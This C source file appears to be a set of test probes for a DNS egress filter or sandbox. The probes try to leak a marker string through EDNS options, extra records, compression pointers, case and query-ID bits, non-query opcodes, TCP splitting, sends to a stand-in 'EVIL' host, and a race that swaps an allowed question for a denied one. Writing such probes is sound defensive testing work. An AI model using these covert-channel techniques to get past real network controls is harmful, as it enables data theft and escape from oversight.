/*
 * Data carried out beside an allowed question, in what is no question, and by streams (see dns.c).
 */
#include "dnsquery.h"

#include <stdio.h>
#include <string.h>

/* --- beside an allowed question ------------------------------------------------------------------------ */

static struct message *innocent(struct message *m, unsigned flags, unsigned questions, unsigned more)
{
	want_net();
	put_header(m, 0x1234, flags, questions, more);
	put_name(m, "good.example");
	put16(m, A);
	put16(m, IN);
	return m;
}

static void put_record(struct message *m, const char *owner, unsigned type, unsigned class)
{
	put_name(m, owner);
	put16(m, type);
	put16(m, class);
	put16(m, 0);
	put16(m, 0);
}

PROBE(dns_edns_option)
{
	struct message m;
	size_t n = strlen(escape_name);

	put_record(innocent(&m, RECURSIVE, 1, 1), "", OPT, 1232);
	put16(&m, (unsigned)n + 4);
	put16(&m, 65001);
	put16(&m, (unsigned)n);
	put_bytes(&m, escape_name, n);
	return by_udp(SERVER, DNS_PORT, &m);
}

PROBE(dns_edns_option_by_tcp)
{
	struct message m;
	size_t n = strlen(escape_name);

	put_record(innocent(&m, RECURSIVE, 1, 1), "", OPT, 1232);
	put16(&m, (unsigned)n + 4);
	put16(&m, 10); /* a cookie, RFC 7873 */
	put16(&m, (unsigned)n);
	put_bytes(&m, escape_name, n);
	return by_tcp(SERVER, DNS_PORT, &m);
}

PROBE(dns_second_question)
{
	struct message m;

	innocent(&m, RECURSIVE, 2, 0);
	put_name(&m, leak());
	put16(&m, A);
	put16(&m, IN);
	return by_udp(SERVER, DNS_PORT, &m);
}

PROBE(dns_extra_record)
{
	struct message m;
	size_t n = strlen(escape_name);

	put_record(innocent(&m, RECURSIVE, 1, 1), "good.example", TXT, IN);
	put16(&m, (unsigned)n + 1);
	put_label(&m, escape_name, n);
	return by_udp(SERVER, DNS_PORT, &m);
}

PROBE(dns_answer_in_question)
{
	struct message m;

	innocent(&m, RECURSIVE, 1, 0);
	m.text[7] = 1;
	put_record(&m, leak(), A, IN);
	put16(&m, 4);
	put_bytes(&m, "\1\2\3\4", 4);
	return by_udp(SERVER, DNS_PORT, &m);
}

PROBE(dns_trailing_bytes)
{
	struct message m;

	innocent(&m, RECURSIVE, 1, 0);
	put_bytes(&m, escape_name, strlen(escape_name));
	return by_udp(SERVER, DNS_PORT, &m);
}

/* The question's name is a pointer to where nobody looks. */
PROBE(dns_compressed_question)
{
	struct message m;

	put_header(&m, 1, RECURSIVE, 1, 1);
	put16(&m, 0xc000 | 18);
	put16(&m, A);
	put16(&m, IN);
	put_record(&m, leak(), A, IN);
	put16(&m, 4);
	put_bytes(&m, "\1\2\3\4", 4);
	return by_udp(SERVER, DNS_PORT, &m);
}

/* Which letters are large, and the number of the query, are twelve and sixteen bits that nobody judges. */
PROBE(dns_case_bits)
{
	struct message m;

	want_net();
	return by_udp(SERVER, DNS_PORT, ask(&m, "CaSeSpEaKsVoLuMeSoFbItS.wild.example", A));
}

PROBE(dns_query_number)
{
	struct message m;

	want_net();
	ask(&m, "number.wild.example", A);
	m.text[0] = 0xbe;
	m.text[1] = 0xef;
	return by_udp(SERVER, DNS_PORT, &m);
}

/* --- what is no query
 * ---------------------------------------------------------------------------------------- */

static int by_flags(unsigned flags)
{
	struct message m;

	ask(&m, leak(), A);
	m.text[2] = (uint8_t)(flags >> 8);
	return by_udp(SERVER, DNS_PORT, &m);
}

PROBE(dns_notify)
{
	return by_flags(NOTIFY);
}

PROBE(dns_update)
{
	return by_flags(UPDATE);
}

PROBE(dns_response)
{
	return by_flags(RESPONSE);
}

PROBE(dns_other_class)
{
	struct message m;

	ask(&m, leak(), TXT);
	m.text[m.len - 1] = CHAOS;
	return by_udp(SERVER, DNS_PORT, &m);
}

static struct message *no_message(struct message *m)
{
	want_net();
	m->len = (size_t)snprintf((char *)m->text, sizeof(m->text), "GET /%s HTTP/1.0\r\n\r\n", escape_name);
	return m;
}

PROBE(dns_port_other_text)
{
	struct message m;

	return by_udp(SERVER, DNS_PORT, no_message(&m));
}

PROBE(dns_port_other_text_to_stranger)
{
	struct message m;

	return by_udp(EVIL, DNS_PORT, no_message(&m));
}

PROBE(dns_port_tcp_other_text)
{
	struct sockaddr_in a = v4_at(SERVER, DNS_PORT);
	int s = made(AF_INET, SOCK_STREAM, 0);

	if (s < 0 || DO(connect, s, (void *)&a, sizeof(a)) < 0)
		return STOPPED;
	(void)DO(sendto, s, escape_name, strlen(escape_name), MSG_NOSIGNAL, NULL, 0);
	return await(s);
}

PROBE(dns_port_tcp_stranger)
{
	struct sockaddr_in a = v4_at(EVIL, DNS_PORT);
	int s = made(AF_INET, SOCK_STREAM, 0);

	if (s < 0 || DO(connect, s, (void *)&a, sizeof(a)) < 0)
		return STOPPED;
	(void)DO(sendto, s, escape_name, strlen(escape_name), MSG_NOSIGNAL, NULL, 0);
	return await(s);
}

/* --- streams
 * ------------------------------------------------------------------------------------------------ */

static void put_whole(struct message *m, const struct message *one)
{
	put16(m, (unsigned)one->len);
	put_bytes(m, one->text, one->len);
}

static int to_server_by_tcp(void)
{
	struct sockaddr_in a = v4_at(SERVER, DNS_PORT);
	int s = made(AF_INET, SOCK_STREAM, 0);

	return s >= 0 && DO(connect, s, (void *)&a, sizeof(a)) == 0 ? s : -1;
}

/* The allowed one first, in the same breath. */
PROBE(dns_tcp_second)
{
	struct message m, whole = { .len = 0 };
	int s = to_server_by_tcp();

	put_whole(&whole, innocent(&m, RECURSIVE, 1, 0));
	put_whole(&whole, ask(&m, leak(), A));
	if (s < 0)
		return STOPPED;
	(void)DO(sendto, s, whole.text, whole.len, MSG_NOSIGNAL, NULL, 0);
	(void)usleep(PATIENCE * 1000 / 4);
	return await(s);
}

PROBE(dns_tcp_in_pieces)
{
	struct message m, whole = { .len = 0 };
	int s = to_server_by_tcp();

	put_whole(&whole, ask(&m, leak(), A));
	if (s < 0)
		return STOPPED;
	(void)DO(sendto, s, whole.text, 9, MSG_NOSIGNAL, NULL, 0);
	(void)usleep(2000);
	(void)DO(sendto, s, whole.text + 9, whole.len - 9, MSG_NOSIGNAL, NULL, 0);
	return await(s);
}

PROBE(dns_v6_stranger)
{
	struct sockaddr_in6 a = v6(EVIL6);
	int s = made(AF_INET6, SOCK_DGRAM, 0);
	struct message m;

	a.sin6_port = htons(DNS_PORT);
	ask(&m, leak(), A);
	if (s < 0)
		return STOPPED;
	(void)DO(sendto, s, m.text, m.len, 0, (void *)&a, sizeof(a));
	return await(s);
}

/* --- other ways to the one who answers ----------------------------------------------------------------- */

/* Where a connection to the name server really ended, connected to again, by what was not announced. */
PROBE(dns_door)
{
	struct sockaddr_in a = v4_at(SERVER, DNS_PORT);
	socklen_t len = sizeof(a);
	struct message m, whole = { .len = 0 };
	int first = made(AF_INET, SOCK_STREAM, 0), s = made(AF_INET, SOCK_STREAM, 0);

	if (first < 0 || s < 0 || DO(connect, first, (void *)&a, sizeof(a)) < 0)
		return STOPPED;
	(void)DO(getpeername, first, (void *)&a, &len);
	ask(&m, leak(), A);
	put16(&whole, (unsigned)m.len);
	put_bytes(&whole, m.text, m.len);
	if (DO(connect, s, (void *)&a, sizeof(a)) < 0)
		return STOPPED;
	(void)DO(sendto, s, whole.text, whole.len, MSG_NOSIGNAL, NULL, 0);
	return await(s);
}

PROBE(dns_connected_write)
{
	struct sockaddr_in a = v4_at(SERVER, DNS_PORT);
	int s = made(AF_INET, SOCK_DGRAM, 0);
	struct message m;

	if (s < 0 || DO(connect, s, (void *)&a, sizeof(a)) < 0)
		return STOPPED;
	ask(&m, leak(), A);
	(void)write(s, m.text, m.len);
	return await(s);
}

/* The question turns from an allowed one to a denied one while it is judged. */
PROBE(dns_turned_question)
{
	struct sockaddr_in a = v4_at(SERVER, DNS_PORT);
	struct message good, bad, *both = shared_page();
	int s = made(AF_INET, SOCK_DGRAM, 0);
	pid_t child;

	ask(&good, "x.wild.example", A);
	ask(&bad, leak(), A);
	/* Of one length, so that each is whole; what is allowed has bytes behind it. */
	memset(good.text + good.len, 0, bad.len - good.len);
	child = turn(both->text, good.text, bad.text, bad.len);
	for (uint64_t since = 0; s >= 0 && still(&since);)
		(void)DO(sendto, s, both->text, bad.len, 0, (void *)&a, sizeof(a));
	end_turn(child);
	return await(s);
}
